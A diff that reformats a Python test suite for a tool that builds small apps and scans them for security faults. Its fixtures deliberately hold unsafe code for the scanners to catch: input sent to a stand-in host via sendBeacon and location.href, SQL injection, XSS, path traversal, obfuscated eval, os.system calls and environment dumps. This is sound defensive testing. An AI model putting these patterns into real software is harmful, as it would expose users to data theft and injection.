@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from geist.apps import page, scan_page, scan_python, scan_secrets, service, tool
 from geist.apps.building import Building
-from geist.apps.checking import Check, Expect, NotUnderstood, Step, alike, parse
+from geist.apps.checking import KINDS, Check, Expect, Kind, NotUnderstood, Step, alike, parse
 from geist.apps.describe import read, used
 from geist.apps.eject import eject
 from geist.apps.fit import fitted
@@ -48,35 +48,59 @@ named = words.map(str.strip).filter(bool)
 numbers = st.integers(-999, 999).map(str)
 PARTS = {
     "page": (
-        st.one_of(st.builds(Step, st.just("set"), named, words), st.builds(Step, st.just("press"), named),
-                  st.just(Step("reload")), st.builds(Step, st.just("wait"), st.just(""), st.just("2"))),
-        st.one_of(st.builds(Expect, st.just("is"), named, words), st.builds(Expect, st.just("seen"), named),
-                  st.builds(Expect, st.just("unseen"), named),
-                  st.builds(Expect, st.just("between"), named, numbers, numbers))),
+        st.one_of(
+            st.builds(Step, st.just("set"), named, words),
+            st.builds(Step, st.just("press"), named),
+            st.just(Step("reload")),
+            st.builds(Step, st.just("wait"), st.just(""), st.just("2")),
+        ),
+        st.one_of(
+            st.builds(Expect, st.just("is"), named, words),
+            st.builds(Expect, st.just("seen"), named),
+            st.builds(Expect, st.just("unseen"), named),
+            st.builds(Expect, st.just("between"), named, numbers, numbers),
+        ),
+    ),
     "service": (
-        st.builds(lambda m, p, b: Step("request", f"{m} {p}", b), st.sampled_from(("GET", "POST")),
-                  st.just("/books/{id}"), st.sampled_from(("", '{"title": "a; b → c"}'))),
-        st.one_of(st.builds(Expect, st.just("is"), named, words), st.builds(Expect, st.just("header"), st.just("location"), named))),
+        st.builds(
+            lambda m, p, b: Step("request", f"{m} {p}", b),
+            st.sampled_from(("GET", "POST")),
+            st.just("/books/{id}"),
+            st.sampled_from(("", '{"title": "a; b → c"}')),
+        ),
+        st.one_of(
+            st.builds(Expect, st.just("is"), named, words),
+            st.builds(Expect, st.just("header"), st.just("location"), named),
+        ),
+    ),
     "tool": (
-        st.one_of(st.builds(Step, st.just("file"), named, words), st.builds(Step, st.just("input"), st.just(""), words),
-                  st.just(Step("run", value="a.txt --top 3"))),
-        st.one_of(st.builds(Expect, st.just("exactly"), st.just(""), words), st.builds(Expect, st.just("lacks"), st.just(""), words),
-                  st.just(Expect("fails")), st.just(Expect("ends", value="2")))),
-}  # fmt: skip
+        st.one_of(
+            st.builds(Step, st.just("file"), named, words),
+            st.builds(Step, st.just("input"), st.just(""), words),
+            st.just(Step("run", value="a.txt --top 3")),
+        ),
+        st.one_of(
+            st.builds(Expect, st.just("exactly"), st.just(""), words),
+            st.builds(Expect, st.just("lacks"), st.just(""), words),
+            st.just(Expect("fails")),
+            st.just(Expect("ends", value="2")),
+        ),
+    ),
+}
 
 
-@given(st.data(), st.sampled_from(("page", "service", "tool")))
-def test_a_check_is_what_its_words_say(chosen: st.DataObject, kind: str) -> None:
+@given(st.data(), st.sampled_from(KINDS[:3]))
+def test_a_check_is_what_its_words_say(chosen: st.DataObject, kind: Kind) -> None:
     steps, expects = PARTS[kind]
     check = Check(tuple(chosen.draw(st.lists(steps, min_size=1, max_size=4))),
                   tuple(chosen.draw(st.lists(expects, min_size=1, max_size=3))))  # fmt: skip
-    assert parse(check.line, kind) == check  # type: ignore[arg-type]
+    assert parse(check.line, kind) == check
 
 
-@given(st.text(max_size=80), st.sampled_from(("page", "service", "tool", "script")))
-def test_any_line_is_a_check_or_is_told(line: str, kind: str) -> None:
+@given(st.text(max_size=80), st.sampled_from(KINDS))
+def test_any_line_is_a_check_or_is_told(line: str, kind: Kind) -> None:
     try:
-        made = parse(line, kind)  # type: ignore[arg-type]
+        made = parse(line, kind)
     except NotUnderstood as e:
         assert e.why and e.mend
     else:
@@ -102,27 +126,50 @@ def test_values_are_compared_as_a_person_does() -> None:
 
 
 @settings(max_examples=150)
-@given(st.text(max_size=200), st.sampled_from(("page", "service", "tool")))
-def test_any_plan_is_read_or_refused(text: str, kind: str) -> None:
-    for reader in (lambda: read(text, kind, ""), lambda: used(text, kind)):  # type: ignore[arg-type]
+@given(st.text(max_size=200), st.sampled_from(KINDS[:3]))
+def test_any_plan_is_read_or_refused(text: str, kind: Kind) -> None:
+    for reader in (lambda: read(text, kind, ""), lambda: used(text, kind)):
         with pytest.raises((Unreadable, KeyError, TypeError, AttributeError, ValueError)):
             reader()
             raise ValueError
 
 
-json_like = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=8),
-                         lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3))  # fmt: skip
+json_like = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
+    lambda inner: (
+        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
+    ),
+)
 
 
 @settings(max_examples=150)
-@given(st.fixed_dictionaries({"title": json_like, "shape": st.sampled_from(("form", "list", "buttons")),
-                              "inputs": st.lists(st.fixed_dictionaries({"label": st.text(max_size=12), "kind": st.sampled_from(("number", "text", "choice")),
-                                                                        "options": st.lists(json_like, max_size=3)}), max_size=3),
-                              "buttons": st.lists(json_like, max_size=3), "outputs": st.lists(st.text(max_size=9), max_size=3)}))  # fmt: skip
+@given(
+    st.fixed_dictionaries(
+        {
+            "title": json_like,
+            "shape": st.sampled_from(("form", "list", "buttons")),
+            "inputs": st.lists(
+                st.fixed_dictionaries(
+                    {
+                        "label": st.text(max_size=12),
+                        "kind": st.sampled_from(("number", "text", "choice")),
+                        "options": st.lists(json_like, max_size=3),
+                    }
+                ),
+                max_size=3,
+            ),
+            "buttons": st.lists(json_like, max_size=3),
+            "outputs": st.lists(st.text(max_size=9), max_size=3),
+        }
+    )
+)
 def test_any_plan_of_the_form_makes_a_page_that_can_be_read(told: dict) -> None:
     plan = read(json.dumps(told), "page", "x")
-    code = {"form": "function compute() { return {}; }", "list": "function add(i) { return i; }\nfunction summary(i) { return {}; }\nfunction act() {}",
-            "buttons": "function begin() { return {}; }\nfunction press(b, s) { return s; }\nfunction show(s) { return {}; }"}  # fmt: skip
+    code = {
+        "form": "function compute() { return {}; }",
+        "list": "function add(i) { return i; }\nfunction summary(i) { return {}; }\nfunction act() {}",
+        "buttons": "function begin() { return {}; }\nfunction press(b, s) { return s; }\nfunction show(s) { return {}; }",
+    }
     source = SHAPES[plan.shape].build(plan, code[plan.shape])
     assert broken(source) == "" and not list(scan_page.scan(source))
     assert SHAPES[plan.shape].ask(plan)
@@ -164,14 +211,27 @@ PAGE = """<!doctype html><html lang="en"><head><title>T</title><style>:root { co
 document.getElementById('go').addEventListener('click', () => { SCRIPT });</script></body></html>"""
 
 
-@pytest.mark.parametrize(("plan", "code", "checks"), [
-    (TIP, TIP_CODE, [TIP_CHECK, 'Bill is x; Tip percent is 1; press Split → "Bill must be" is seen']),
-    (LIST, LIST_CODE, ["Item is tea; Price is 2; press Add; Item is milk; Price is 1.5; press Add → Items is 2; Sum is 3.5",
-                       "Item is tea; Price is 2; press Add; press Remove → Items is 0",
-                       'Item is tea; Price is 2; press Add; reload → Items is 1; "tea" is seen',
-                       "Item is tea; Price is 2; press Add; press Done → done is yes"]),
-    (SCORE, SCORE_CODE, ["press Red +1; press Red +1; press Red -1 → Red is 1"]),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("plan", "code", "checks"),
+    [
+        (
+            TIP,
+            TIP_CODE,
+            [TIP_CHECK, 'Bill is x; Tip percent is 1; press Split → "Bill must be" is seen'],
+        ),
+        (
+            LIST,
+            LIST_CODE,
+            [
+                "Item is tea; Price is 2; press Add; Item is milk; Price is 1.5; press Add → Items is 2; Sum is 3.5",
+                "Item is tea; Price is 2; press Add; press Remove → Items is 0",
+                'Item is tea; Price is 2; press Add; reload → Items is 1; "tea" is seen',
+                "Item is tea; Price is 2; press Add; press Done → done is yes",
+            ],
+        ),
+        (SCORE, SCORE_CODE, ["press Red +1; press Red +1; press Red -1 → Red is 1"]),
+    ],
+)
 def test_the_shapes_of_pages_pass_everything(
     plan: Plan, code: str, checks: list[str], browser: Browser
 ) -> None:
@@ -182,16 +242,47 @@ def test_the_shapes_of_pages_pass_everything(
     )
 
 
-@pytest.mark.parametrize(("script", "stage", "what"), [
-    ("document.getElementById('out').textContent = 'Length: ' + document.getElementById('name').value.length", "", ""),
-    ("document.getElementById('out').textContent = 'Half: ' + Number(document.getElementById('name').value) / 2", "tried", "NaN"),
-    ("const n = document.getElementById('name').value; document.getElementById('out').append(...new DOMParser().parseFromString(n, 'text/html').body.childNodes)", "attacked", "markup"),
-    ("document.getElementById('out').textContent = JSON.parse(document.getElementById('name').value)", "tried", "script error"),
-    ("const p = document.createElement('pre'); p.textContent = document.getElementById('name').value; document.body.append(p)", "tried", "wider"),
-    ("document.getElementById('out').innerHTML = document.getElementById('name').value", "safe", "markup"),
-    ("navigator['send' + 'Beacon']('https://x.example', 'a')", "safe", "name that is made"),
-    ("location.href = 'https://x.example/?' + document.getElementById('name').value", "safe", "address"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("script", "stage", "what"),
+    [
+        (
+            "document.getElementById('out').textContent = 'Length: ' + document.getElementById('name').value.length",
+            "",
+            "",
+        ),
+        (
+            "document.getElementById('out').textContent = 'Half: ' + Number(document.getElementById('name').value) / 2",
+            "tried",
+            "NaN",
+        ),
+        (
+            "const n = document.getElementById('name').value; document.getElementById('out').append(...new DOMParser().parseFromString(n, 'text/html').body.childNodes)",
+            "attacked",
+            "markup",
+        ),
+        (
+            "document.getElementById('out').textContent = JSON.parse(document.getElementById('name').value)",
+            "tried",
+            "script error",
+        ),
+        (
+            "const p = document.createElement('pre'); p.textContent = document.getElementById('name').value; document.body.append(p)",
+            "tried",
+            "wider",
+        ),
+        (
+            "document.getElementById('out').innerHTML = document.getElementById('name').value",
+            "safe",
+            "markup",
+        ),
+        ("navigator['send' + 'Beacon']('https://x.example', 'a')", "safe", "name that is made"),
+        (
+            "location.href = 'https://x.example/?' + document.getElementById('name').value",
+            "safe",
+            "address",
+        ),
+    ],
+)
 def test_what_is_wrong_with_a_page_is_found(
     script: str, stage: str, what: str, browser: Browser
 ) -> None:
@@ -229,22 +320,29 @@ GOOD = "print(len(text.splitlines()))"
 DUPS_CHECK = 'a.txt holds "x\\ny\\n"; run a.txt → prints exactly "2"'
 
 
-@pytest.mark.parametrize(("body", "stage", "what"), [
-    (GOOD, "", ""),
-    ("print(len(text.splitlines()) or 1 / 0)", "tried", "ZeroDivisionError"),
-    (GOOD + "\nopen('notes.log', 'w').write(text)", "attacked", "notes.log"),
-    (GOOD + "\nopen(told.file, 'w').write('')", "attacked", "a.txt"),
-    (GOOD + "\nimport pathlib\npathlib.Path('/geist/data/x').write_text('')", "attacked", "/geist/data/x"),
-    (GOOD + "\nwhile not text: pass", "tried", "time"),
-    ("print(3)", "checks", "printed '3'"),
-    (GOOD + "\nimport urllib.request", "safe", "network"),
-    (GOOD + "\nfrom os import system as s\ns('ls')", "safe", "runs other programs"),
-    (GOOD + "\ngetattr(__builtins__, 'ev' + 'al')(text)", "safe", "way round"),
-    (GOOD + "\nimport no_such_library_at_all", "safe", "neither"),
-    (GOOD + "\nprnt(text)", "lint", "prnt"),
-    (GOOD + "\nKEY = 'sk-" + "proj-abcdefghij0123456789abcd'", "safe", "key"),
-    (GOOD + "\nif", "parses", "Python"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("body", "stage", "what"),
+    [
+        (GOOD, "", ""),
+        ("print(len(text.splitlines()) or 1 / 0)", "tried", "ZeroDivisionError"),
+        (GOOD + "\nopen('notes.log', 'w').write(text)", "attacked", "notes.log"),
+        (GOOD + "\nopen(told.file, 'w').write('')", "attacked", "a.txt"),
+        (
+            GOOD + "\nimport pathlib\npathlib.Path('/geist/data/x').write_text('')",
+            "attacked",
+            "/geist/data/x",
+        ),
+        (GOOD + "\nwhile not text: pass", "tried", "time"),
+        ("print(3)", "checks", "printed '3'"),
+        (GOOD + "\nimport urllib.request", "safe", "network"),
+        (GOOD + "\nfrom os import system as s\ns('ls')", "safe", "runs other programs"),
+        (GOOD + "\ngetattr(__builtins__, 'ev' + 'al')(text)", "safe", "way round"),
+        (GOOD + "\nimport no_such_library_at_all", "safe", "neither"),
+        (GOOD + "\nprnt(text)", "lint", "prnt"),
+        (GOOD + "\nKEY = 'sk-" + "proj-abcdefghij0123456789abcd'", "safe", "key"),
+        (GOOD + "\nif", "parses", "Python"),
+    ],
+)
 def test_what_is_wrong_with_a_program_is_found(body: str, stage: str, what: str) -> None:
     found, _ = Judge(Bench(None, {})).judge(
         DUPS.replace("BODY", body), "tool", [parse(DUPS_CHECK, "tool")]
@@ -286,8 +384,16 @@ for line in text.splitlines():
 
 # services
 
-BOOKS = Plan("service", "records", "Books", "", (Field("title"), Field("year", "integer", least=0, most=2100)), resource="books",
-             filters=("title",), routes=(Route("GET", "/books/stats"), Route("POST", "/books/{id}/lend")))  # fmt: skip
+BOOKS = Plan(
+    "service",
+    "records",
+    "Books",
+    "",
+    (Field("title"), Field("year", "integer", least=0, most=2100)),
+    resource="books",
+    filters=("title",),
+    routes=(Route("GET", "/books/stats"), Route("POST", "/books/{id}/lend")),
+)
 BOOKS_CODE = """def prepare(item, items):
     return item
 
@@ -329,7 +435,7 @@ def described(request):
     return JSONResponse({"openapi": "3.0.3", "info": {"title": "n", "version": "1"}, "paths": {"/notes": {
         "get": {"parameters": [{"name": "q", "in": "query", "schema": {"type": "string"}}], "responses": {"200": {"description": "ok"}}}}}})
 app = Starlette(routes=[Route("/notes", add, methods=["POST"]), Route("/notes", many), Route("/openapi.json", described)])
-"""  # fmt: skip
+"""
 SAFE_QUERY = (
     'return JSONResponse([r[0] for r in db.execute("SELECT text FROM notes WHERE text = ?", (q,))])'
 )
@@ -341,14 +447,20 @@ def test_the_shape_of_services_passes_everything() -> None:
     assert Judge(Bench(None, {})).judge(source, "service", checks) == ([], len(checks))
 
 
-@pytest.mark.parametrize(("body", "what"), [
-    (SAFE_QUERY, ""),
-    ("return JSONResponse([r[0] for r in db.execute('SELECT text FROM notes WHERE text = \\'' + q + '\\'')])", "sql"),
-    ("return HTMLResponse('<html><body>' + q + '</body></html>')", "xss"),
-    ("return JSONResponse(open(q or '/geist/app/app.py').read()[:50])", "traversal"),
-    ("return JSONResponse(int(q or 1))", "fuzz"),
-    ("import socket\n    socket.create_connection((q or '127.0.0.1', 80), 1)", "network"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("body", "what"),
+    [
+        (SAFE_QUERY, ""),
+        (
+            "return JSONResponse([r[0] for r in db.execute('SELECT text FROM notes WHERE text = \\'' + q + '\\'')])",
+            "sql",
+        ),
+        ("return HTMLResponse('<html><body>' + q + '</body></html>')", "xss"),
+        ("return JSONResponse(open(q or '/geist/app/app.py').read()[:50])", "traversal"),
+        ("return JSONResponse(int(q or 1))", "fuzz"),
+        ("import socket\n    socket.create_connection((q or '127.0.0.1', 80), 1)", "network"),
+    ],
+)
 def test_a_service_is_fuzzed_and_attacked(body: str, what: str, tmp_path: Path) -> None:
     """Without the scan of its source, which would find most of these before."""
     app = tmp_path / "app.py"
@@ -375,30 +487,59 @@ def test_a_service_begins_anew_and_has_no_network(tmp_path: Path) -> None:
 # the scans, on what a test of the whole would pass by
 
 
-@pytest.mark.parametrize(("source", "rule"), [
-    ("import sqlite3\ndef f(db, n):\n    db.execute(f'SELECT {n}')", "sql"),
-    ("import sqlite3\nCOLUMNS = {'a': 'name'}\ndef f(db, n):\n    db.execute(f'SELECT {COLUMNS[n]} FROM t WHERE x = ?', (n,))", ""),
-    ("def f(db, n):\n    where = []\n    if n:\n        where.append('n = ?')\n    db.execute('SELECT 1 WHERE ' + ' AND '.join(where), [n])", ""),
-    ("def f(db, n):\n    if n not in ('a', 'b'):\n        return\n    db.execute('SELECT ' + n)", ""),
-    ("def g(db, w):\n    db.execute('SELECT 1 ' + w)\ndef f(db, n):\n    g(db, n)", "sql"),
-    ("import pickle", "unpack"), ("f = eval", "eval"), ("import importlib\nimportlib.import_module('x')", "eval"),
-    ("import asyncio\nasyncio.open_connection('x', 1)", "network"), ("().__class__.__mro__[1].__subclasses__()", "eval"),
-    ("import os\nprint(os.environ['APP_DATA'])", ""), ("import os\nprint(dict(os.environ))", "leak"),
-    ("import ast\nprint(ast.literal_eval('[1]'))", ""), ("import hashlib\nprint(hashlib.sha256(b'x'))", ""),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("source", "rule"),
+    [
+        ("import sqlite3\ndef f(db, n):\n    db.execute(f'SELECT {n}')", "sql"),
+        (
+            "import sqlite3\nCOLUMNS = {'a': 'name'}\ndef f(db, n):\n    db.execute(f'SELECT {COLUMNS[n]} FROM t WHERE x = ?', (n,))",
+            "",
+        ),
+        (
+            "def f(db, n):\n    where = []\n    if n:\n        where.append('n = ?')\n    db.execute('SELECT 1 WHERE ' + ' AND '.join(where), [n])",
+            "",
+        ),
+        (
+            "def f(db, n):\n    if n not in ('a', 'b'):\n        return\n    db.execute('SELECT ' + n)",
+            "",
+        ),
+        ("def g(db, w):\n    db.execute('SELECT 1 ' + w)\ndef f(db, n):\n    g(db, n)", "sql"),
+        ("import pickle", "unpack"),
+        ("f = eval", "eval"),
+        ("import importlib\nimportlib.import_module('x')", "eval"),
+        ("import asyncio\nasyncio.open_connection('x', 1)", "network"),
+        ("().__class__.__mro__[1].__subclasses__()", "eval"),
+        ("import os\nprint(os.environ['APP_DATA'])", ""),
+        ("import os\nprint(dict(os.environ))", "leak"),
+        ("import ast\nprint(ast.literal_eval('[1]'))", ""),
+        ("import hashlib\nprint(hashlib.sha256(b'x'))", ""),
+    ],
+)
 def test_python_is_scanned(source: str, rule: str) -> None:
     found = {f.rule for f in scan_python.scan(source, True)}
     assert (rule in found) if rule else not found, found
 
 
-@pytest.mark.parametrize(("script", "rule"), [
-    ("document.body.innerHTML = '<p>' + 1 + '</p>'", ""), ("document.body.innerHTML = `<p>${x}</p>`", "xss"),
-    ("const esc = s => s.replace(/&/g, '&amp;'); document.body.innerHTML = `<p>${esc(x)}</p>`", ""),
-    ("setTimeout('go()', 1)", "eval"), ("setTimeout(() => 1, 1)", ""), ("(() => 1).constructor('return 1')()", "eval"),
-    ("new Image().src = u", "network"), ("a.href = 'https://x.example'", ""), ("window['ev' + 'al'](x)", "eval"),
-    ("document.createElement('scr' + 'ipt')", "frame"), ("const make = t => document.createElement(t); make('p')", ""),
-    ("const password = document.getElementById('password').value", ""),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("script", "rule"),
+    [
+        ("document.body.innerHTML = '<p>' + 1 + '</p>'", ""),
+        ("document.body.innerHTML = `<p>${x}</p>`", "xss"),
+        (
+            "const esc = s => s.replace(/&/g, '&amp;'); document.body.innerHTML = `<p>${esc(x)}</p>`",
+            "",
+        ),
+        ("setTimeout('go()', 1)", "eval"),
+        ("setTimeout(() => 1, 1)", ""),
+        ("(() => 1).constructor('return 1')()", "eval"),
+        ("new Image().src = u", "network"),
+        ("a.href = 'https://x.example'", ""),
+        ("window['ev' + 'al'](x)", "eval"),
+        ("document.createElement('scr' + 'ipt')", "frame"),
+        ("const make = t => document.createElement(t); make('p')", ""),
+        ("const password = document.getElementById('password').value", ""),
+    ],
+)
 def test_scripts_are_scanned(script: str, rule: str) -> None:
     found = {f.rule for f in scan_page.scan(f"<p>x</p><script>{script}</script>")}
     assert (rule in found) if rule else not found, found
@@ -519,8 +660,19 @@ def test_a_tool_is_made_mended_confirmed_run_changed_ejected_and_discarded(
         PLAN,
         RUN.replace("str(len(text.splitlines()))", "f'{len(text.splitlines())} lines'"),
     ]
-    changed = geist(tmp_path, "apps", "change", "last", "say the word lines", "--without", "1", "--check",
-                    'a.txt holds "x\\n"; run a.txt → prints exactly "1 lines"', "--model", model_server.url)  # fmt: skip
+    changed = geist(
+        tmp_path,
+        "apps",
+        "change",
+        "last",
+        "say the word lines",
+        "--without",
+        "1",
+        "--check",
+        'a.txt holds "x\\n"; run a.txt → prints exactly "1 lines"',
+        "--model",
+        model_server.url,
+    )
     assert "✓ it can be read" in changed.stdout, changed.stdout + changed.stderr
     assert geist(tmp_path, "apps", "run", "last", "x.txt").stdout == "3 lines\n"
     assert geist(tmp_path, "apps", "keep", "last").returncode == 0
@@ -695,13 +847,19 @@ def test_a_bug_is_traced_until_it_is_mended(project: Path, model_server: Scripte
     assert "does not show any more" in geist(project, "apps", "run", "last").stdout
 
 
-@pytest.mark.parametrize(("argv", "what"), [
-    (("make",), "no app was described"), (("make", "a page", "--kind", "poem"), "no kind"),
-    (("make", "x", "--kind", "script"), "needs the files"), (("make", "x", "gone.csv"), "there is no file"),
-    (("make", "a page that adds", "--check", "so be it"), "cannot be understood"),
-    (("make", "a page that adds", "--effort", "much"), "makes no sense"),
-    (("apps", "run", "nothing"), "there is no app"), (("apps", "change", "last", ""), "no change"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("argv", "what"),
+    [
+        (("make",), "no app was described"),
+        (("make", "a page", "--kind", "poem"), "no kind"),
+        (("make", "x", "--kind", "script"), "needs the files"),
+        (("make", "x", "gone.csv"), "there is no file"),
+        (("make", "a page that adds", "--check", "so be it"), "cannot be understood"),
+        (("make", "a page that adds", "--effort", "much"), "makes no sense"),
+        (("apps", "run", "nothing"), "there is no app"),
+        (("apps", "change", "last", ""), "no change"),
+    ],
+)
 def test_misuse_is_told(argv: tuple[str, ...], what: str, tmp_path: Path) -> None:
     told = geist(tmp_path, *argv)
     assert told.returncode == 2 and what in told.stderr, told.stderr
